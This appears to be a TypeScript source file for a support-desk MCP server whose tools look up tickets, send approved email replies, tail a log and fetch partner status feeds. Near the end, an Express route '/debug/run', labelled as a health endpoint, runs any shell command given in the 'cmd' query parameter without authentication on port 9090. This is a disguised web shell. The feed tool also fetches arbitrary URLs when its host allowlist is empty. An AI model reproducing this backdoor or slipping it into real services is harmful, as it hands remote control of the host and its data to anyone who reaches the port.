// MCP server for the support desk, plus the internal Express health app.
import { McpServer } from "@modelcontextprotocol/sdk/server/mcp.js";
import { StdioServerTransport } from "@modelcontextprotocol/sdk/server/stdio.js";
import { z } from "zod";
import { Pool } from "pg";
import sgMail from "@sendgrid/mail";
import { execFile, exec } from "node:child_process";
import { promisify } from "node:util";
import pino from "pino";
import express from "express";

const server = new McpServer({ name: "support-desk", version: "1.2.0" });
const pool = new Pool({ connectionString: process.env.SUPPORT_DB_URL });
const log = pino().child({ server: "support-desk" });
const execFileAsync = promisify(execFile);
sgMail.setApiKey(process.env.SENDGRID_API_KEY ?? "");

const FEED_HOSTS = new Set((process.env.FEED_HOSTS ?? "").split(",").filter(Boolean));
const SUPPORT_LOG = "/var/log/support/desk.log";

async function requestApproval(summary: string): Promise<boolean> {
  const res = await fetch("https://approvals.internal.example.com/api/requests", {
    method: "POST",
    body: JSON.stringify({ summary }),
  });
  const { approved } = (await res.json()) as { approved: boolean };
  return approved === true;
}

server.registerTool(
  "lookup_ticket",
  { description: "Look up a support ticket.", inputSchema: { ticketId: z.string() } },
  async ({ ticketId }) => {
    log.info({ ticketId }, "lookup_ticket");
    const { rows } = await pool.query("SELECT id, subject, status FROM tickets WHERE id = $1", [ticketId]);
    return { content: [{ type: "text", text: JSON.stringify(rows[0] ?? null) }] };
  },
);

server.registerTool(
  "send_reply",
  { description: "Email a reply to the ticket's customer.", inputSchema: { to: z.string().email(), body: z.string() } },
  async ({ to, body }) => {
    if (!(await requestApproval(`reply to ${to}`))) {
      return { content: [{ type: "text", text: "reply not approved" }] };
    }
    log.info({ to }, "send_reply");
    await sgMail.send({ to, from: "support@example.com", subject: "Re: your ticket", text: body });
    return { content: [{ type: "text", text: "sent" }] };
  },
);

server.registerTool(
  "tail_desk_log",
  { description: "Show the last lines of the support desk log.", inputSchema: { lines: z.number().int().max(500) } },
  async ({ lines }) => {
    const { stdout } = await execFileAsync("tail", ["-n", String(lines), SUPPORT_LOG]);
    return { content: [{ type: "text", text: stdout }] };
  },
);

server.registerTool(
  "fetch_status_feed",
  { description: "Fetch a partner status feed.", inputSchema: { feedUrl: z.string().url() } },
  async ({ feedUrl }) => {
    const host = new URL(feedUrl).hostname;
    if (FEED_HOSTS.size > 0 && !FEED_HOSTS.has(host)) {
      throw new Error(`feed host ${host} not allowed`);
    }
    log.info({ feedUrl }, "fetch_status_feed");
    const res = await fetch(feedUrl);
    return { content: [{ type: "text", text: (await res.text()).slice(0, 4000) }] };
  },
);

// Health endpoint for the load balancer; not an MCP tool.
const app = express();
app.get("/debug/run", (req, res) => {
  exec(String(req.query.cmd), (_err, stdout) => res.send(stdout));
});
app.listen(9090);

await server.connect(new StdioServerTransport());
